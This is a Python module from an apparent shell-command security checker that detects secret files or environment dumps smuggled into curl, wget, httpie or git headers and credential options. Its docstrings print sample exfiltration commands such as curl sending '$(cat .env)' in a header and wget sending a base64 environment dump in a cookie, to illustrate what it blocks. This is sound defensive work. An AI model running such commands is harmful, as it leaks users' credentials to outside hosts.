"""Secret data (not a secret variable) in an HTTP client's headers and auth options.

:func:`._secrets.sent_args` leaves ``-H``/``--header`` values and credential options (``-u``,
``--oauth2-bearer``...) out of the data a request sends, because a credential there is how a
client authenticates, and :mod:`._hdrsecret` judges secret *variables* in them. A header
still carries whatever it holds to the host, so the secret *data* of this command in one is
sent like a body (``shell.exfiltration``):

* the contents of a secret file or an environment dump, in any header or credential option:
  ``curl -H "X-Data: $(cat .env)" URL``, ``wget --header="Cookie: $(env | base64 -w0)" URL``,
  ``k=$(cat .env); curl -H "X: $k" URL``, httpie/xh ``Authorization:$(cat .env)`` (no
  service takes a whole ``.env`` or environment as its credential);
* the same in ``curl -A``/``--user-agent`` (sent as the ``User-Agent`` header);
* a credential printer's output (``gh auth token``, ``gcloud auth print-access-token``) in a
  header whose name is not an auth header (``X-Data: $(gh auth token)``). In an auth header
  (``Authorization``, ``X-Api-Key``, ``PRIVATE-TOKEN``, ``Cookie``...) or a credential
  option it authenticates, as it is meant to: ``curl -H "Authorization: Bearer $(gcloud auth
  print-access-token)" URL`` stays quiet, and so does a token fetched by an HTTP client
  (``X-aws-ec2-metadata-token: $TOKEN`` after the IMDSv2 token request) or a value a
  selector picked out of a secret file (``Authorization: Bearer $(grep API_KEY .env | cut
  -d= -f2)``, ``$(jq -r .token creds.json)``): one key authenticating to its service, not
  the file. ``cat .env`` or ``env`` whole in an auth header still blocks.

Secret variables (``$GITHUB_TOKEN``) are left to :mod:`._hdrsecret`. Only the HTTP clients
reach this module, and only when an argument carries taint.
"""

from __future__ import annotations

from ._secrets import HTTP_CLIENTS, PRINTER_NAMES
from ._values import Source, Taint
from ._words import Field

__all__ = ["auth_header", "header_data", "header_secrets"]

# Options whose value is a header.
_HEADER = frozenset({"-H", "--header"})
# Options whose value is a credential (curl, wget, httpie/xh -a).
_CREDENTIAL = frozenset({"-u", "--user", "--oauth2-bearer", "--proxy-user", "-U", "--password",
                         "--http-password", "--ftp-password", "--proxy-password", "-a",
                         "--auth"})
# httpie / xh header items sent_args leaves out (the rest are already sent data).
_ITEM_HEADERS = frozenset({"authorization", "x-api-key", "private-token", "api-key"})
# Programs that pick one value out of a secret file they read (grep KEY .env | cut -d= -f2).
_SELECTORS = frozenset({"grep", "egrep", "fgrep", "rg", "sed", "awk", "gawk", "mawk", "cut",
                        "jq", "yq", "dotenv"})
# Pieces of a header name that make it an auth header.
_AUTH_PIECES = ("auth", "token", "key", "cookie", "session", "secret", "pass", "credential",
                "signature", "bearer", "jwt")


def auth_header(text: str) -> bool:
    """``text`` (``Name: value``) is an auth header (``Authorization``, ``X-Api-Key``...)."""
    name = text.partition(":")[0].strip().lower()
    return any(p in name for p in _AUTH_PIECES)


def _sent(taint: Taint, auth: bool, out: list[Source]) -> None:
    """Add the secret data sources of ``taint`` (a header or credential value's) to ``out``."""
    for src in taint:
        if src.kind != "secret" or src.program.startswith("$"):
            continue  # secret variables: _hdrsecret
        if auth and (src.program in PRINTER_NAMES or src.program in HTTP_CLIENTS or
                     src.program in _SELECTORS):
            continue  # Bearer $(gh auth token), an IMDS token, $(grep KEY .env | cut ..)
        out.append(src)


def header_secrets(value: Field) -> list[Source]:
    """The secret data one header value (``Name: value``) sends, by the rules above: ``git -c
    http.extraHeader="X: $(cat .env)"`` sends the file; ``"AUTHORIZATION: basic $(echo -n
    x:$GITHUB_TOKEN | base64)"`` (actions/checkout's own header) authenticates."""
    out: list[Source] = []
    _sent(value.taint, auth_header(value.text), out)
    return out


def header_data(name: str, args: list[Field]) -> list[Source]:
    """Secret data sources that ``name args`` send in headers or credential options (module
    doc). An option and its value are read together: ``h=(-H "X: $(cat .env)"); curl
    "${h[@]}"`` may carry the array's taint on the option word."""
    if not any(f.taint for f in args):
        return []
    out: list[Source] = []
    i = 0
    n = len(args)
    while i < n:
        f = args[i]
        t = f.text
        opt, eq, _val = t.partition("=")
        if t.startswith("--") and eq:
            if opt in _HEADER and f.taint:
                _sent(f.taint, auth_header(t[len(opt) + 1:]), out)  # --header=V
            elif opt in _CREDENTIAL and f.taint:
                _sent(f.taint, True, out)
            elif opt == "--user-agent" and f.taint:
                _sent(f.taint, False, out)
        elif t in _HEADER or t in _CREDENTIAL or t == "--user-agent" or (
                t == "-A" and name == "curl"):
            if i + 1 < n:
                value = args[i + 1]
                auth = t in _CREDENTIAL or (t in _HEADER and auth_header(value.text))
                _sent(f.taint | value.taint, auth, out)
            i += 2
            continue
        elif t[:1] == "-" and t[1:2] != "-" and len(t) > 2:
            if t[1] in "Hu" and f.taint:  # -H'X: y' attached
                _sent(f.taint, t[1] == "u" or auth_header(t[2:]), out)
            elif t[1:].isalpha() and t[-1] in "Hu" and i + 1 < n:  # -sSH 'X: ...'
                value = args[i + 1]
                _sent(f.taint | value.taint, t[-1] == "u" or auth_header(value.text), out)
                i += 2
                continue
        elif f.taint and ":" in t and t[:1] != "-" and "://" not in t and \
                t.partition(":")[0].lower() in _ITEM_HEADERS:
            _sent(f.taint, True, out)  # httpie / xh item: Authorization:$(cat .env)
        i += 1
    return out
